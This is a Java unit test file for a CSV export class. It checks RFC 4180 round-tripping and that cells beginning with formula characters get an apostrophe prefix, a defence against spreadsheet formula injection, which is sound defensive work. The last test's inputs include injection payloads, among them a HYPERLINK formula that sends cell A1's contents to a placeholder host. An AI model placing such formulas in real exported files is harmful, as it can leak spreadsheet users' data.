package org.agreementledger.api.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ColumnsTest {

    private static final Columns<String> COLUMNS =
            new Columns<String>().with("text", text -> text).with("length", String::length);

    private static String csv(String... items) throws IOException {
        StringWriter out = new StringWriter();
        COLUMNS.write(List.of(items).iterator(), out);
        return out.toString();
    }

    /** By a library not used for writing. */
    private static List<String> readBack(String csv) throws IOException {
        try (CSVParser parser =
                CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get()
                        .parse(new StringReader(csv))) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).allSatisfy(row -> assertThat(row.isConsistent()).isTrue());
            return records.stream().map(row -> row.get("text")).toList();
        }
    }

    @Test
    void a_line_of_headings_comes_first_and_lines_end_as_in_rfc_4180() throws IOException {
        assertThat(csv()).isEqualTo("text,length\r\n");
        assertThat(csv("a", "b c")).isEqualTo("text,length\r\na,1\r\nb c,3\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "one, two",
                "she said \"unchanged\"",
                "\"",
                "\"\"",
                "line\nline",
                "line\r\nline",
                "tab\tand;semicolon",
                "ends with a line\n",
                "#no comment",
                "שלום, עולם",
                "\u202eright to left",
                "🤝 \uD83D\uDC69\u200D⚖️",
                "\u2028",
                "\uFEFFmark",
                "back\\slash",
                "1,5",
                "a=b"
            })
    void what_was_written_is_read_back(String text) throws IOException {
        assertThat(readBack(csv("first", text, "last"))).containsExactly("first", text, "last");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://elsewhere.example?\"&A1,\"here\")",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)"
            })
    void no_cell_starts_a_formula(String text) throws IOException {
        assertThat(readBack(csv(text, "last"))).containsExactly("'" + text, "last");
    }
}
